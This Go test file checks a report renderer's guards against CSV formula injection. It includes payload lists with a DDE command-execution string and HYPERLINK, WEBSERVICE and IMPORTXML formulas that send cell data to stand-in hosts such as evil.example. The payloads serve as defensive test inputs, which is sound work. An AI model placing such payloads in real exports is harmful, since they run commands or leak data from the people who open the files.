package reportrender

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
)

// injectionPayloads are formula triggers from OWASP's CSV injection page and its variants.
var injectionPayloads = []string{
	"=cmd|' /C calc'!A0",
	"+1+1",
	"-2+3",
	"@SUM(1+1)",
	"\t=1",
	"\r=1",
	"\n=1",
	"\x00=1",
	" =1",
	"   @SUM(A1)",
	"\u00a0=1",
	"\u3000+1",
	"\u200b=1",
	"\ufeff=1",
	"＝1",
	"＋1",
	"－1",
	"＠SUM(1)",
	"﹦1",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"=1+2;=3",
	"-",
	"=",
	"=\"\"\"\"",
	"@",
	"\t",
}

func TestSafeCell(t *testing.T) {
	for _, s := range injectionPayloads {
		assert.Equal(t, "'"+s, SafeCell(s), "%q", s)
	}
	for _, s := range []string{"", "alice@example.com", "Login failed", "2026-03-29T01:00:00+01:00", "'=1", "a=b", "   ", " hello", "日本語", "10.0.0.1", "x-1"} {
		assert.Equal(t, s, SafeCell(s), "%q", s)
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range injectionPayloads {
		f.Add(s)
	}
	f.Add("plain")
	f.Add(" \u2003 x")
	f.Fuzz(func(t *testing.T, s string) {
		got := SafeCell(s)
		// The original is always recoverable: either untouched or behind one quote.
		if got != s && got != "'"+s {
			t.Fatalf("SafeCell(%q) = %q changes the text", s, got)
		}
		assertNoLeadingTrigger(t, got)
		// The renderers' own cell processing keeps the property.
		assertNoLeadingTrigger(t, csvText(got))
		csvGot := SafeCSVCell(s)
		if cell := csvCell(s); cell != csvGot {
			t.Fatalf("csvCell(%q) = %q, want %q", s, cell, csvGot)
		}
		assertNoSegmentTrigger(t, csvGot)
		// The CSV variant only inserts quotes into the text SafeCell made.
		if strings.ReplaceAll(csvGot, "'", "") != strings.ReplaceAll(csvText(got), "'", "") {
			t.Fatalf("SafeCSVCell(%q) = %q changes more than quotes", s, csvGot)
		}
		assertNoLeadingTrigger(t, truncateCell(got))
		if truncated := truncateCell(got); truncated != got {
			assert.True(t, strings.HasSuffix(truncated, TruncationMarker))
			assert.True(t, strings.HasPrefix(got, strings.TrimSuffix(truncated, TruncationMarker)))
		}
	})
}

// assertNoLeadingTrigger checks the property a spreadsheet cares about: after whitespace and
// invisible characters, the first character is not a trigger.
func assertNoLeadingTrigger(t *testing.T, s string) {
	t.Helper()
	trimmed := strings.TrimLeftFunc(s, func(r rune) bool { return isLeadingFiller(r) && !isTrigger(r) })
	if trimmed == "" {
		return
	}
	r, _ := utf8.DecodeRuneInString(trimmed)
	if isTrigger(r) {
		t.Fatalf("cell %q starts with trigger %q", s, r)
	}
}

// embeddedPayloads put a trigger after a separator inside the cell: harmless to a reader
// that honours CSV quoting, a formula to Excel in a ";" locale or to a reader that splits on
// tabs or lines. want is SafeCSVCell's answer.
var embeddedPayloads = []struct{ in, want string }{
	{"x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"},
	{"x,=cmd|' /C calc'!A0", "x,'=cmd|' /C calc'!A0"},
	{"x\t=cmd|' /C calc'!A0", "x\t'=cmd|' /C calc'!A0"},
	{"x\n=cmd|' /C calc'!A0", "x\n'=cmd|' /C calc'!A0"},
	{"x\r\n@SUM(1+1)*cmd|' /C calc'!A0", "x\n'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"x\r+1", "x\n'+1"},
	{"a;+1;-1;@A1", "a;'+1;'-1;'@A1"},
	{"a; =1", "a;' =1"},
	{"a;\u00a0\u200b=1", "a;'\u00a0\u200b=1"},
	{"a;＝1", "a;'＝1"},
	{"a;﹢1", "a;'﹢1"},
	{"a;\"=1", "a;'\"=1"},
	{"\"=1", "'\"=1"},
	{"a;;=1", "a;;'=1"},
	{"a;\t=1", "a;\t'=1"},
	{"=1;=2", "'=1;'=2"},
	{"user;=WEBSERVICE(\"http://x.example/?\"&A2)", "user;'=WEBSERVICE(\"http://x.example/?\"&A2)"},
	{"user;=HYPERLINK(\"http://x.example/?\"&B2;\"Click\")", "user;'=HYPERLINK(\"http://x.example/?\"&B2;\"Click\")"},
	{"Login;=IMPORTXML(CONCAT(\"http://x.example/?\";A1);\"//a\")", "Login;'=IMPORTXML(CONCAT(\"http://x.example/?\";A1);\"//a\")"},
	// Not triggers after the separator: unchanged.
	{"alice, bob; carol", "alice, bob; carol"},
	{"10.0.0.1;10.0.0.2", "10.0.0.1;10.0.0.2"},
	{"a;'=1", "a;'=1"},
	{"x-1;y+2", "x-1;y+2"},
	{"a;", "a;"},
	{"a; ", "a; "},
}

func TestSafeCSVCell(t *testing.T) {
	for _, tc := range embeddedPayloads {
		assert.Equal(t, tc.want, SafeCSVCell(tc.in), "%q", tc.in)
		assert.Equal(t, tc.want, csvCell(tc.in), "csvCell %q", tc.in)
		assertNoSegmentTrigger(t, SafeCSVCell(tc.in))
	}
	for _, s := range injectionPayloads {
		assertNoSegmentTrigger(t, SafeCSVCell(s))
	}
	// The fast path returns the cell itself.
	for _, s := range []string{"", "plain", "alice@example.com", "a,b;c", "2026-03-29T01:00:00+01:00"} {
		assert.Equal(t, s, csvCell(s))
	}
}

// assertNoSegmentTrigger checks every piece of a CSV cell that a reader ignoring quotes
// could take for a cell of its own: after whitespace, invisible characters and double
// quotes, none starts with a trigger.
func assertNoSegmentTrigger(t *testing.T, s string) {
	t.Helper()
	for _, seg := range strings.FieldsFunc(s, func(r rune) bool { return r == ',' || r == ';' || r == '\t' || r == '\n' || r == '\r' }) {
		trimmed := strings.TrimLeftFunc(seg, func(r rune) bool { return r == '"' || isLeadingFiller(r) && !isTrigger(r) })
		if trimmed == "" {
			continue
		}
		if r, _ := utf8.DecodeRuneInString(trimmed); isTrigger(r) {
			t.Fatalf("cell %q: segment %q starts with trigger %q", s, seg, r)
		}
	}
}

func TestASCIIWithoutCR(t *testing.T) {
	assert.True(t, asciiWithoutCR(""))
	assert.True(t, asciiWithoutCR("plain ascii text that is longer than eight bytes\n"))
	for i := range 20 {
		for _, c := range []string{"\r", "é", "\x80", "\xff"} {
			s := strings.Repeat("a", i) + c + strings.Repeat("b", 20-i)
			assert.False(t, asciiWithoutCR(s), "%q", s)
		}
	}
}
